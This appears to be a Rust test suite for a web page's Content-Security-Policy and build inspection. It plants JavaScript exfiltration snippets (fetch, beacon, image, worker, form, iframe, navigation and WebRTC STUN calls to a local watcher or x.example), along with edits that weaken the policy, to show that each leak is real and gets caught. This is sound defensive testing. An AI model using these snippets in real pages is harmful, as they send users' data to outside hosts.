//! Leaks planted in the built page: each must be caught, by the policy in the browser or by the build's inspection. And
//! each is shown to be a leak, so that the catching means something.

use std::fs;
use std::net::UdpSocket;
use std::process::Command;
use std::time::Duration;

use packing::{Effort, Program};
use retrace_page_tests::browser::Browser;
use retrace_page_tests::built::{hash, page, target};
use retrace_page_tests::engine::Engine;
use retrace_page_tests::servers::Servers;
use retrace_page_tests::support::{LINK, root};

/// A script that sends something to the second server (`{to}`: host and port), and whether a policy can stop it.
const LEAKS: [(&str, &str, bool); 9] = [
    ("page", "fetch('http://{to}/leak', { mode: 'no-cors' }).catch(() => 0)", true),
    ("old-request", "const x = new XMLHttpRequest(); x.open('GET', 'http://{to}/leak'); x.send()", true),
    ("beacon", "navigator.sendBeacon('http://{to}/leak', 'x')", true),
    ("image", "new Image().src = 'http://{to}/leak'", true),
    ("url-worker", "new Worker('/leak.js')", true),
    (
        "blob-worker",
        "new Worker(URL.createObjectURL(new Blob([\"fetch('http://{to}/leak', { mode: 'no-cors' }).catch(() => 0)\"])))",
        true,
    ),
    (
        "form",
        "const f = document.createElement('form'); f.action = 'http://{to}/leak'; document.body.append(f); f.submit()",
        true,
    ),
    ("navigation", "location.href = 'http://{to}/leak'", false),
    ("frame", "const f = document.createElement('iframe'); f.src = 'http://{to}/leak'; document.body.append(f)", true),
];

/// The page with a script of somebody else, whose hash the policy names: a host that was broken into, or a careless build.
fn planted(script: &str, with_policy: bool) -> String {
    let html = fs::read_to_string(page()).unwrap();
    let script = format!("addEventListener('load', () => setTimeout(() => {{ {script} }}, 300));");
    let mut changed = html
        .replace("script-src ", &format!("script-src '{}' ", hash(&script)))
        .replace("</body>", &format!("<script>{script}</script></body>"));
    if !with_policy {
        let meta = changed.find("<meta http-equiv=\"Content-Security-Policy\"").unwrap();
        let close = meta + changed[meta..].find('>').unwrap() + 1;
        changed.replace_range(meta..close, "");
        // Nor is anything taken away at the start.
        changed = changed.replace("Object.defineProperty(globalThis, name, { value: undefined });", "");
    }
    changed
}

/// What the build has against a page, if anything.
fn objection(html: &str) -> Option<String> {
    let file = target().join("e2e/inspected.html");
    fs::create_dir_all(file.parent().unwrap()).unwrap();
    fs::write(&file, html).unwrap();
    let out = Command::new("cargo").args(["xtask", "inspect"]).arg(&file).current_dir(root()).output().unwrap();
    let said = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(out.status.success(), said.is_empty(), "{said}");
    (!out.status.success()).then_some(said)
}

/// The page with another glue, packed anew, and a policy made to fit.
fn with_glue(html: &str, change: impl FnOnce(&str) -> String) -> String {
    let text = script(html, "type=\"application/octet-stream\" id=\"wasm\"");
    let program = Program::unpacked(text).unwrap();
    let changed = Program { glue: change(&program.glue), ..program.clone() };
    html.replace(text, &changed.packed(Effort::Fast).unwrap()).replace(&hash(&program.glue), &hash(&changed.glue))
}

/// The page with other guards, and a policy made to fit.
fn with_guards(html: &str, change: impl FnOnce(&str) -> String) -> String {
    let guards = script(html, "id=\"guards\"");
    let changed = change(guards);
    html.replace(guards, &changed).replace(&hash(guards), &hash(&changed))
}

fn script<'a>(html: &'a str, attributes: &str) -> &'a str {
    let (_, body) = html.split_once(&format!("<script {attributes}>")).unwrap();
    body.split_once("</script>").unwrap().0
}

async fn leaks_in(engine: Engine) {
    for (name, leak, policy_stops) in LEAKS {
        for with_policy in [true, false] {
            let servers = Servers::start(&page());
            let script = leak.replace("{to}", &format!("127.0.0.1:{}", servers.watcher));
            servers.serve_instead(planted(&script, with_policy));
            servers.serve_worker(format!("fetch('http://127.0.0.1:{}/leak', {{ mode: 'no-cors' }})", servers.watcher));
            let kind = if with_policy { "planted" } else { "open" };
            let Some(browser) = Browser::start_in(engine, &format!("{kind}-{name}-{engine:?}")).await else { return };
            browser.client.goto(&format!("{}#{LINK}&lang=en", servers.address())).await.unwrap();
            tokio::time::sleep(Duration::from_millis(1500)).await;
            let left = servers.leaks() > 0;
            browser.stop().await;
            if with_policy {
                assert_eq!(!left, policy_stops, "{engine:?} {name}: does the policy stop it?");
            } else {
                assert!(
                    left,
                    "{engine:?} {name}: this is no leak even without a policy, so catching it proves nothing"
                );
            }
        }
    }
}

#[tokio::test]
async fn planted_leaks_are_stopped_by_the_policy_in_chromium() {
    leaks_in(Engine::Chromium).await;
}

#[tokio::test]
async fn planted_leaks_are_stopped_by_the_policy_in_firefox() {
    leaks_in(Engine::Firefox).await;
}

/// The build does not pass a page with a leak, whether a policy would stop it or not; nor one whose policy is weaker.
#[test]
fn planted_leaks_are_found_by_the_build() {
    let html = fs::read_to_string(page()).unwrap();
    assert_eq!(objection(&html), None, "the built page itself passes");
    // In the glue, with a policy made to fit: the build names what it found.
    for (name, leak, word) in [
        ("page", LEAKS[0].1, "fetch"),
        ("old-request", LEAKS[1].1, "XMLHttpRequest"),
        ("beacon", LEAKS[2].1, "sendBeacon"),
        ("navigation", LEAKS[7].1, "location"),
        ("hidden", "globalThis['lo' + 'cation'] = 'http://x.example/'", "globalThis["),
        ("webrtc", "new RTCPeerConnection()", "RTCPeerConnection"),
    ] {
        let said = objection(&with_glue(&html, |glue| format!("{glue}\n{leak};"))).unwrap_or_default();
        assert!(said.contains(&format!("hold {word:?}")), "{name}: {said:?}");
    }
    // Anywhere else nothing is added or changed, whatever it says: the rest of the page is known byte for byte.
    let boot = "await wasm_bindgen({ module_or_path: module });";
    for (name, leak, _) in LEAKS {
        let said = objection(&planted(leak, true)).unwrap_or_default();
        assert!(said.contains("is not the one that this project puts there"), "{name}: {said:?}");
    }
    for (what, instead) in [
        (boot, &*format!("{boot} x()")),
        ("<div id=\"app\">", "<SCRIPT>x()</SCRIPT><div id=\"app\">"),
        ("connect-src 'none'", "connect-src *"),
        // Another program than the inspected one could come out of another unpacker.
        ("id=\"unpacker\">", "id=\"unpacker\">AAAA"),
        ("default-src 'none'; ", ""),
        ("<div id=\"app\">", "<img src=\"http://x.example/\"><div id=\"app\">"),
        (
            "<meta charset=\"utf-8\">",
            "<meta charset=\"utf-8\"><meta http-equiv=\"refresh\" content=\"0;http://x.example/\">",
        ),
    ] {
        let changed = html.replacen(what, instead, 1);
        assert_ne!(changed, html);
        let said = objection(&changed).unwrap_or_default();
        assert!(said.contains("is not the one that this project puts there"), "{what}: {said:?}");
    }
}

/// No policy stops WebRTC, so it is taken away before anything runs: in the page and in its workers.
#[tokio::test]
async fn webrtc_is_gone() {
    let listener = UdpSocket::bind(("0.0.0.0", 0)).unwrap();
    listener.set_nonblocking(true).unwrap();
    let leak = format!(
        "if (globalThis.RTCPeerConnection) {{ const p = new RTCPeerConnection({{ iceServers: [{{ urls: 'stun:127.0.0.1:{}' }}] }});
           p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)); document.documentElement.dataset.tried = 'yes'; }}",
        listener.local_addr().unwrap().port()
    );
    for (engine, removed) in
        [(Engine::Chromium, true), (Engine::Chromium, false), (Engine::Firefox, true), (Engine::Firefox, false)]
    {
        let servers = Servers::start(&page());
        let html = planted(&leak, true);
        let html = if removed {
            html
        } else {
            // What would be without the removal: the script changes, and its hash with it.
            with_guards(&html, |guards| {
                guards.replace("Object.defineProperty(globalThis, name, { value: undefined });", "")
            })
        };
        servers.serve_instead(html);
        let Some(browser) = Browser::start_in(engine, &format!("webrtc-{engine:?}-{removed}")).await else { return };
        browser.client.goto(&format!("{}#{LINK}&lang=en", servers.address())).await.unwrap();
        tokio::time::sleep(Duration::from_millis(2500)).await;
        let tried =
            browser.client.execute("return document.documentElement.dataset.tried === 'yes'", vec![]).await.unwrap();
        let mut packet = [0; 1500];
        let packets = std::iter::from_fn(|| listener.recv(&mut packet).ok()).count();
        browser.stop().await;
        assert_eq!(tried.as_bool(), Some(!removed), "{engine:?}");
        eprintln!("{engine:?}, taken away: {removed}: {packets} packets at the STUN port");
        if removed {
            assert_eq!(packets, 0, "{engine:?}: something left by WebRTC");
        } else if engine == Engine::Chromium {
            // Firefox sends none to a loopback address: there the removal itself is what is shown.
            assert!(
                packets > 0,
                "without the removal nothing reached the listener, so that its silence proves nothing"
            );
        }
    }
}
